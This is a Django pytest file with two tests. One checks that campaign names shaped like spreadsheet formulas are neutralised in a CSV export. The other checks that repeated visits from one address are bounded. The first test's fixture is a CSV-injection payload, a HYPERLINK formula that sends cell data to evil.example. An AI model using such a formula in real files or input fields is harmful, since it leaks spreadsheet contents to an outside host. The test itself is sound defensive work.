"""Review of insights/campaigns.py: a campaign's name is typed by staff and read back in a
spreadsheet by whoever exports the dashboard's CSV."""

from __future__ import annotations

import csv
import io

import pytest

from insights import campaigns
from insights.campaign_models import Campaign, CampaignVisit

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


def test_a_campaign_name_is_never_a_formula_in_the_csv(as_admin, admin, diabetes):
    # given staff named a campaign like a formula, and someone landed through it
    assert as_admin.post("/insights/campaigns/", {
        "name": FORMULA, "address": diabetes.get_absolute_url(), "source": "x",
    }).status_code == 302
    campaign = Campaign.objects.get()
    CampaignVisit.objects.create(campaign=campaign, community_id=campaign.community_id)
    # when the dashboard's CSV is exported
    response = as_admin.get("/insights/export.csv")
    assert response.status_code == 200
    # then the name is text in its cell, not a formula for the spreadsheet to run
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    names = [row[2] for row in rows if row[:2] == ["campaigns", "campaign"]]
    assert names == ["'" + FORMULA]
    assert campaigns.csv_rows(community_ids=None, start=None, end=None)[2][2] == "'" + FORMULA


def test_a_script_cannot_fill_the_campaign_figures_from_one_address(admin, diabetes):
    from django.test import Client

    # given a campaign link to a public community
    campaign = campaigns.campaign_create(name="spring", address=diabetes.get_absolute_url(),
                                         source="x", created_by=admin)
    link = campaigns.campaign_link(campaign)
    visitor = Client()
    # when one address opens it 60 times, dropping the visit cookie each time
    for _n in range(60):
        visitor.cookies.clear()
        assert visitor.get(link).status_code == 200
    # then the visits it can add are bounded
    assert 1 <= CampaignVisit.objects.filter(campaign=campaign).count() <= 30
